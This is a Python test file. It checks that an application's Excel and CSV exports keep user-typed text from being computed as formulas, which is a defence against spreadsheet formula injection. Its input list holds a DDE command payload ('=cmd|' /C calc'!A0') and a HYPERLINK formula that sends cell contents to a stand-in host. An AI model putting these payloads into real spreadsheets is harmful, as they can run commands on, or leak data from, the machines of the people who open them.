"""Text that a spreadsheet would compute leaves every export as the text it was; two readers agree."""

import csv
from collections.abc import Callable, Generator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from consultant_app.documents import statistics_workbook
from consultant_app.documents.sheets import Column, ColumnKind, write_csv, write_table
from consultant_app.forms import xls_writer
from consultant_app.model.audit import Audit, AuditLine
from consultant_app.model.enterprise import Enterprise
from consultant_app.model.form import Form, FormKind, Question, QuestionType, Section
from consultant_app.model.text import clean_text
from consultant_app.store import records
from consultant_app.store.session import Session
from consultant_app.workflows import checklist_exchange, checklist_sheet, editing, enterprises, exporting

CALL = 'HYPERLINK("http://example.test/?"&A1,"点我")'
TEXTS = [
    *(f"{start}{CALL}" for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠")),
    "=cmd|' /C calc'!A0",
    "=1+1",
    "#REF!",
    "=SUM(1,\"a\",'b')",
    "{=1}",
    "'=1",
    "0012",
    "91350100M000100Y43",
    "123456789012345678",
    "_x003D_1+1",
]
COLUMNS = [
    Column(title="甲"),
    Column(title="乙", kind=ColumnKind.LONG_TEXT),
    Column(title="丙", kind=ColumnKind.NUMBER),
]


@pytest.fixture
def session(tmp_path: Path) -> Generator[Session]:
    """An open data folder."""
    opened = Session.open(tmp_path / "data")
    yield opened
    opened.close()


def finished(work: Generator[Any, None, Any]) -> Any:
    for _ in work:
        pass


def plain(text: object) -> str:
    """The text as it looks: breaks of one kind, Excel's own escape read."""
    return clean_text(str(text)).text.replace("_x005F_", "_").strip(" \t\n")


def computed(path: Path) -> list[object]:
    book = openpyxl.load_workbook(path)
    return [c.value for sheet in book for row in sheet.iter_rows() for c in row if c.data_type in ("f", "e")]


def texts_by_two(path: Path) -> tuple[set[str], set[str]]:
    one = {
        plain(c.value) for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for c in row if c.value
    }
    book = CalamineWorkbook.from_path(str(path))
    tables = [book.get_sheet_by_name(name).to_python() for name in book.sheet_names]
    return one, {plain(value) for table in tables for row in table for value in row if value}


def register(session: Session, path: Path) -> None:
    for number, text in enumerate(TEXTS):
        one = enterprises.add_enterprise(session, f"企业{number}")
        editing.set_fields(session, Enterprise, one.id, remarks=text, employees=text, revenue=text)
    finished(exporting.prepare_register(session, path)())


def big_table(session: Session, path: Path) -> None:
    finished(write_table(path, "=表", COLUMNS, [(text,) * 3 for text in TEXTS]))


def statistics(session: Session, path: Path) -> None:
    rows = [("条款", "数值"), *((text, text) for text in TEXTS)]
    statistics_workbook.write_workbook(path, [("统计", rows)])


def form(session: Session, path: Path) -> None:
    questions = tuple(
        Question(type=QuestionType.TEXT, name=f"q{number}", label=text, hint=text) for number, text in enumerate(TEXTS)
    )
    section = Section(name="s", label=TEXTS[0], questions=questions)
    made = Form(id="f", version="1", title=TEXTS[0], kind=FormKind.CHECKLIST, sections=(section,))
    xls_writer.write_xlsx(made, path)


def an_audit(session: Session) -> Audit:
    one = enterprises.add_enterprise(session, "=企业")
    audit = Audit(id="a", enterprise_id=one.id, number="=1+1")
    lines = [
        AuditLine(
            id=f"l{number}", enterprise_id=one.id, audit_id="a", text=text, record=text, order_key=f"a{number:02}"
        )
        for number, text in enumerate(TEXTS)
    ]
    with session.write("建") as db:
        records.put_all(db, [audit, *lines])
    return audit


def copy_to_fill_in(session: Session, path: Path) -> None:
    finished(checklist_sheet.prepare_sheet(session, an_audit(session), path)())


def checklist(session: Session, path: Path) -> None:
    finished(checklist_exchange.prepare_audit(session, an_audit(session), path)())


WRITERS = [register, big_table, statistics, form, copy_to_fill_in, checklist]


@pytest.mark.parametrize("write", WRITERS, ids=[each.__name__ for each in WRITERS])
def test_no_workbook_computes_what_somebody_typed(
    write: Callable[[Session, Path], None], session: Session, tmp_path: Path
) -> None:
    path = tmp_path / "出.xlsx"
    write(session, path)
    assert [value for value in computed(path) if not str(value).startswith("=COUNTIF")] == []
    for found in texts_by_two(path):
        assert {plain(text) for text in TEXTS} - found == set()


def test_no_csv_begins_a_cell_with_what_would_be_computed(tmp_path: Path) -> None:
    path = tmp_path / "出.csv"
    finished(write_csv(path, COLUMNS, [(text,) * 3 for text in TEXTS]))
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))[1:]
    assert len(rows) == len(TEXTS)
    for text, row in zip(TEXTS, rows, strict=True):
        for cell in row:
            assert cell[0] not in "=+-@\t\r＝＋－＠"
            assert cell.removeprefix("'") == clean_text(text).text or cell == clean_text(text).text


@pytest.mark.parametrize("number", ["-5", "-0.25", "12", "0"])
def test_a_plain_number_in_a_csv_has_no_apostrophe(number: str, tmp_path: Path) -> None:
    finished(write_csv(tmp_path / "出.csv", [Column(title="甲")], [(number,)]))
    assert (tmp_path / "出.csv").read_text("utf-8-sig").splitlines()[1] == number
